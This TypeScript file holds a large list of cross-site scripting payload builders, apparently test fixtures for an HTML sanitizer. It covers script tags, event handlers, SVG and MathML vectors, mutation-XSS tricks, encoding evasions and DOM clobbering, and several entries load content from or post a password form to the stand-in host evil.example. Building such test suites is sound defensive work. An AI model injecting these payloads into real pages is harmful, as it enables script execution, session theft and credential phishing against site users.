import type { Attack } from './Attack'
import { spell } from './spell'

/** Attacks for places that show HTML. */
export const htmlAttacks: readonly Attack[] = [
  ['script', (c) => `<script>${c}</script>`],
  ['script in capitals', (c) => `<ScRiPt>${c}</sCrIpT>`],
  ['script with attributes', (c) => `<script type="text/javascript" async>${c}</script >`],
  ['script with a slash', (c) => `<script/x>${c}</script/>`],
  ['script behind a newline', (c) => `<script\n>${c}</script\n>`],
  ['script of a data address', (c) => `<script src="data:text/javascript,${c}"></script>`],
  ['script of another host', () => `<script src=//evil.example/x.js></script>`],
  ['module script', (c) => `<script type=module>${c}</script>`],
  ['script in a script', (c) => `<scr<script>ipt>${c}</scr</script>ipt>`],
  ['script never closed', (c) => `<script>${c}//`],
  ['double bracket', (c) => `<<script>${c}//<</script>`],
  ['script behind a null byte', (c) => `<\u0000script>${c}</script>`],
  ['null byte in the name', (c) => `<scr\u0000ipt>${c}</scr\u0000ipt>`],
  ['script after a comment that ends oddly', (c) => `<!--><script>${c}</script>-->`],
  ['script after a comment with a bang', (c) => `<!-- --!><script>${c}</script> -->`],
  ['script after a nested comment', (c) => `<!--<!--> --><img src=x onerror=${c}>`],
  ['conditional comment', (c) => `<!--[if gte IE 4]><script>${c}</script><![endif]-->`],
  ['CDATA', (c) => `<![CDATA[<script>${c}</script>]]>`],
  ['processing instruction', (c) => `<?xml version="1.0"?><script>${c}</script>`],
  ['script in a title', (c) => `<title><script>${c}</script></title><img src=x onerror=${c}>`],
  ['xml namespace', (c) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${c}</x:script>`],

  ['img error', (c) => `<img src=x onerror=${c}>`],
  ['img error quoted', (c) => `<img src="x" onerror="${c}">`],
  ['img error in capitals', (c) => `<IMG SRC=x OnErRoR=${c}>`],
  ['img error behind slashes', (c) => `<img/src=x/onerror=${c}>`],
  ['img error behind a form feed', (c) => `<img\fsrc=x\fonerror=${c}>`],
  ['img error behind a tab', (c) => `<img\tsrc=x\tonerror\t=\t${c}>`],
  ['img error in backticks', (c) => `<img src=\`x\` onerror=${c}>`],
  ['img error in entities', (c) => `<img src=x onerror="${spell.entities(c)}">`],
  ['img error in hexadecimal entities', (c) => `<img src=x onerror="${spell.hexEntities(c)}">`],
  ['img error in padded entities', (c) => `<img src=x onerror="${spell.paddedEntities(c)}">`],
  ['img error in unicode escapes', (c) => `<img src=x onerror=${spell.unicode(c)}>`],
  ['img error in character codes', (c) => `<img src=x onerror="${spell.charCodes(c)}">`],
  ['img error never closed', (c) => `<img src=x onerror="${c}"`],
  ['img error behind a broken attribute', (c) => `<img """><img src=x onerror=${c}>">`],
  ['img error behind an odd quote', (c) => `<img alt='" src=x' title="' onerror=${c} src=x>`],
  ['img load', (c) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=${c}>`],
  ['img of another host', () => `<img src="http://evil.example/pixel.gif">`],
  ['img srcset', () => `<img srcset="//evil.example/a.gif 1x, //evil.example/b.gif 2x">`],
  ['picture source', (c) => `<picture><source srcset=x><img onerror=${c}></picture>`],
  ['image, which is img', (c) => `<image src=x onerror=${c}>`],
  ['img with a javascript address', (c) => `<img src="javascript:${c}" lowsrc="javascript:${c}">`],
  ['img with dynamic source', (c) => `<img dynsrc="javascript:${c}">`],

  ['body load', (c) => `<body onload=${c}>`],
  ['body page show', (c) => `<body onpageshow="${c}">`],
  ['body background', (c) => `<body background="javascript:${c}">`],
  ['html focus', (c) => `<html onfocus=${c} onmouseover=${c}>`],
  ['frameset', (c) => `<frameset onload=${c}><frame src="javascript:${c}"></frameset>`],
  ['input focus', (c) => `<input autofocus onfocus=${c}>`],
  ['input image', (c) => `<input type=image src=x onerror=${c}>`],
  ['select focus', (c) => `<select autofocus onfocus=${c}><option>1</select>`],
  ['textarea focus', (c) => `<textarea autofocus onfocus=${c}>x</textarea>`],
  ['keygen focus', (c) => `<keygen autofocus onfocus=${c}>`],
  ['button click', (c) => `<button onclick=${c} autofocus onfocus=${c}>Save</button>`],
  ['details toggle', (c) => `<details open ontoggle=${c}><summary>x</summary></details>`],
  ['marquee start', (c) => `<marquee onstart=${c} loop=1>x</marquee>`],
  ['video error', (c) => `<video onerror=${c}><source src=x onerror=${c}></video>`],
  ['video poster', (c) => `<video poster="javascript:${c}" src=x onerror=${c}></video>`],
  ['audio error', (c) => `<audio src=x onerror=${c} autoplay controls></audio>`],
  ['track', (c) => `<video controls><track default src=x onerror=${c}></video>`],
  [
    'dialog close',
    (c) => `<dialog open onclose=${c} oncancel=${c}><form method=dialog><button>OK</button></form></dialog>`,
  ],
  ['pointer on a link', (c) => `<a onpointerenter=${c} onmouseover=${c} onclick=${c}>Read more</a>`],
  ['pointer on bold', (c) => `<b onmousemove="${c}" onclick=${c}>bold</b>`],
  ['focus by tab index', (c) => `<p tabindex=1 id=x onfocus=${c} autofocus>x</p>`],
  [
    'animation start',
    (c) => `<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="${c}">x</div>`,
  ],
  [
    'transition end',
    (c) => `<div style="transition:color 1s" ontransitionend=${c} ontransitionrun=${c}>x</div>`,
  ],
  [
    'own element',
    (c) => `<x-element onclick=${c} onfocus=${c} tabindex=0 autofocus contenteditable>x</x-element>`,
  ],
  ['before input', (c) => `<div contenteditable autofocus onbeforeinput=${c} onfocus=${c}>x</div>`],
  [
    'content visibility',
    (c) => `<p oncontentvisibilityautostatechange=${c} style="content-visibility:auto">x</p>`,
  ],
  [
    'popover toggle',
    (c) => `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${c}>x</div>`,
  ],
  [
    'scroll end',
    (c) => `<div style="overflow:scroll;height:9px" onscroll=${c} onscrollend=${c}><p>x<p>x</div>`,
  ],
  ['cut, copy, paste', (c) => `<p oncopy=${c} oncut=${c} onpaste=${c} contenteditable>x</p>`],
  ['drag', (c) => `<p draggable=true ondragstart=${c} ondrag=${c}>x</p>`],
  ['wheel', (c) => `<p onwheel=${c} onmousewheel=${c}>x</p>`],
  ['handler of an unknown attribute', (c) => `<p onfoo=${c} on=${c} ON-click=${c}>x</p>`],

  ['svg load', (c) => `<svg onload=${c}>`],
  ['svg load closed by slash', (c) => `<svg/onload=${c}/>`],
  ['svg script', (c) => `<svg><script>${c}</script></svg>`],
  ['svg script of a data address', (c) => `<svg><script href="data:text/javascript,${c}" /></svg>`],
  ['svg script in entities', (c) => `<svg><script>${spell.entities(c)}</script></svg>`],
  ['svg animate begin', (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s></svg>`],
  ['svg set', (c) => `<svg><set onbegin=${c} attributename=x></svg>`],
  [
    'svg animated link',
    (c) =>
      `<svg><a><animate attributeName=href values="javascript:${c}" /><text x=20 y=20>x</text></a></svg>`,
  ],
  ['svg link', (c) => `<svg><a xlink:href="javascript:${c}"><text x=20 y=20>x</text></a></svg>`],
  [
    'svg use of a data address',
    (c) =>
      `<svg><use href="data:image/svg+xml;base64,${spell.base64(`<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${c}'/></svg>`)}#x" /></svg>`,
  ],
  [
    'svg foreign object',
    (c) =>
      `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload=${c}></body></foreignObject></svg>`,
  ],
  ['svg image', (c) => `<svg><image href=x onerror=${c} /></svg>`],
  ['svg title', (c) => `<svg><title><img src=x onerror=${c}></title></svg>`],
  [
    'svg handler element',
    (c) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${c}</handler></svg>`,
  ],
  ['svg discard', (c) => `<svg><discard onbegin=${c} /></svg>`],
  [
    'math link',
    (c) => `<math><maction actiontype="statusline#" xlink:href="javascript:${c}">x</maction></math>`,
  ],
  ['math handler', (c) => `<math href="javascript:${c}" onclick=${c}>x</math>`],

  [
    'mutation: style in math',
    (c) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${c}&gt;">`,
  ],
  [
    'mutation: nested forms',
    (c) =>
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${c}></style></mglyph></form>`,
  ],
  ['mutation: svg style and a title', (c) => `<svg></p><style><a id="</style><img src=1 onerror=${c}>">`],
  ['mutation: noscript', (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`],
  [
    'mutation: template',
    (c) => `<template><s><template><s><img src=x onerror=${c}>x</s></template></s></template>`,
  ],
  ['mutation: textarea', (c) => `<textarea><img title="</textarea><img src=x onerror=${c}>"></textarea>`],
  ['mutation: title attribute', (c) => `<p title="</p><img src=x onerror=${c}>">x</p>`],
  [
    'mutation: noembed and noframes',
    (c) =>
      `<noembed><a title="</noembed><img src onerror=${c}>"></noembed><noframes><a title="</noframes><img src onerror=${c}>">`,
  ],
  ['mutation: xmp', (c) => `<svg><xmp><p title="</xmp><img src=x onerror=${c}>"></xmp></svg>`],
  ['mutation: plaintext', (c) => `<svg><desc><plaintext><img src=x onerror=${c}>`],
  [
    'mutation: select and template',
    (c) =>
      `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${c}>">`,
  ],
  [
    'mutation: table in a paragraph',
    (c) =>
      `<table><caption><svg><title><table><caption><img src=x onerror=${c}></caption></table></title></svg></caption></table>`,
  ],
  [
    'mutation: annotation-xml',
    (c) =>
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${c}></style></annotation-xml></math>`,
  ],
  [
    'mutation: deep nesting',
    (c) => `${'<div>'.repeat(300)}<svg><style><img src=x onerror=${c}>${'</div>'.repeat(300)}`,
  ],
  ['mutation: backtick attribute', (c) => `<p title="\`\`onmouseover=${c}">x</p>`],
  ['mutation: is attribute', (c) => `<p is="x" title='<style><img src=x onerror=${c}></style>'>x</p>`],
  [
    'declarative shadow root',
    (c) => `<div><template shadowrootmode=open><img src=x onerror=${c}></template></div>`,
  ],

  ['iframe with a javascript address', (c) => `<iframe src="javascript:parent.${c}"></iframe>`],
  ['iframe with a document of its own', (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`],
  [
    'iframe with an encoded document',
    (c) => `<iframe srcdoc="${spell.hexEntities(`<img src=x onerror=parent.${c}>`)}"></iframe>`,
  ],
  ['iframe load', (c) => `<iframe onload=${c}></iframe>`],
  ['frame of another host', () => `<iframe src="https://evil.example/frame"></iframe>`],
  [
    'object',
    (c) =>
      `<object data="javascript:${c}"></object><object data="data:text/html,<script>parent.${c}</script>"></object>`,
  ],
  ['object error', (c) => `<object data=x onerror=${c}></object>`],
  [
    'object parameter',
    (c) =>
      `<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value="javascript:${c}"></object>`,
  ],
  [
    'embed',
    (c) =>
      `<embed src="javascript:${c}"><embed src="data:image/svg+xml;base64,${spell.base64(`<svg xmlns="http://www.w3.org/2000/svg"><script>parent.${c}</script></svg>`)}">`,
  ],
  ['applet', (c) => `<applet code="javascript:${c}" archive="//evil.example/x.jar"></applet>`],
  [
    'portal and fenced frame',
    (c) =>
      `<portal src="javascript:${c}" onload=${c}></portal><fencedframe src="//evil.example"></fencedframe>`,
  ],

  ['base', () => `<base href="//evil.example/"><a href="x">Help</a>`],
  ['base with a javascript address', (c) => `<base href="javascript:/a/-${c}//"><a href="#">Help</a>`],
  ['meta refresh', (c) => `<meta http-equiv="refresh" content="0;url=javascript:${c}">`],
  ['meta refresh to another host', () => `<meta http-equiv=refresh content="0;url=//evil.example">`],
  [
    'meta refresh to a data address',
    (c) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${c}</script>">`,
  ],
  ['meta cookie', () => `<meta http-equiv="Set-Cookie" content="a=b">`],
  ['link stylesheet', () => `<link rel=stylesheet href="//evil.example/x.css">`],
  ['link import', () => `<link rel=import href="//evil.example/x.html">`],
  [
    'link prefetch',
    () => `<link rel="prefetch" href="//evil.example/prefetch"><link rel=dns-prefetch href=//evil.example>`,
  ],
  ['link stylesheet load', (c) => `<link rel=stylesheet href=/favicon.ico onload=${c} onerror=${c}>`],
  ['form action', (c) => `<form action="javascript:${c}"><input type=submit value=Save></form>`],
  [
    'form of another host',
    () =>
      `<form action="//evil.example/steal" method=post><input name=password type=password><button>Log in</button></form>`,
  ],
  ['form action by a button', (c) => `<form><button formaction="javascript:${c}">Save</button></form>`],
  ['button of the form around', (c) => `<button type=submit formaction="javascript:${c}">Save</button>`],
  ['isindex', (c) => `<isindex type=image src=1 onerror=${c} action="javascript:${c}">`],

  ['style element', () => `<style>body{background:url(//evil.example/style)}</style>`],
  ['style import', () => `<style>@import '//evil.example/x.css';</style>`],
  ['style expression', (c) => `<style>*{width:expression(${c})}</style>`],
  ['style with a tag in it', (c) => `<style><img src="</style><img src=x onerror=${c}//">`],
  ['style attribute expression', (c) => `<p style="width:expr/**/ession(${c})">x</p>`],
  ['style attribute with a javascript address', (c) => `<p style="background:url('javascript:${c}')">x</p>`],
  ['style attribute of another host', () => `<p style="background:url(//evil.example/attribute)">x</p>`],
  [
    'style attribute binding',
    () => `<p style="-moz-binding:url(//evil.example/x.xml#x);behavior:url(//evil.example/x.htc)">x</p>`,
  ],
  [
    'style that covers the page',
    () => `<a href="/settings" style="position:fixed;inset:0;z-index:9999">x</a>`,
  ],
  [
    'table background',
    (c) => `<table background="javascript:${c}"><td background="//evil.example/td"></table>`,
  ],

  ['clobbering: document', () => `<img name=body><img name=getElementById><form name=createElement></form>`],
  [
    'clobbering: window',
    () => `<a id=__pwned></a><a id=location href="//evil.example"></a><form id=document></form>`,
  ],
  [
    'clobbering: attributes',
    (c) => `<form onclick=${c}><input name=attributes><input name=nodeName><input name=childNodes></form>`,
  ],
  ['clobbering: root', () => `<div id=root>x</div><div id=content>y</div>`],
  ['slot and part', (c) => `<slot name=x onslotchange=${c}><p part=x exportparts=x>x</p></slot>`],
  ['label for our button', () => `<label for="save" accesskey=s>Read more</label>`],
  ['map area', (c) => `<map name=m><area shape=default href="javascript:${c}"></map><img usemap=#m src=x>`],
  ['ping', () => `<a href="/settings" ping="//evil.example/ping">Help</a>`],
  ['download', (c) => `<a href="data:text/html,<script>${c}</script>" download="x.html">Help</a>`],
  ['xml islands', (c) => `<xml id=x><a><b>&lt;script>${c};&lt;/script></b></a></xml>`],
  ['right to left', (c) => `<p dir=rtl>\u202E<img src=x onerror=${c}></p>`],
  ['long attribute', (c) => `<img alt="${'x'.repeat(4000)}" src=x onerror=${c}>`],
  ['lone surrogate', (c) => `<img \ud800 src=x onerror=${c}>`],
  ['byte order mark', (c) => `\uFEFF<img src=x onerror=${c}>`],
  ['overlong brackets', (c) => `\uFF1Cscript\uFF1E${c}\uFF1C/script\uFF1E`],
  ['half tags', (c) => `<p <img src=x onerror=${c}> x</p <b>`],
  ['attribute without a space', (c) => `<a href="/"onclick=${c}>x</a>`],
  ['slash as a space', (c) => `<b/onclick=${c}/title=x>x</b>`],
  ['equals in a name', (c) => `<b =onclick=x onclick=${c}>x</b>`],
]
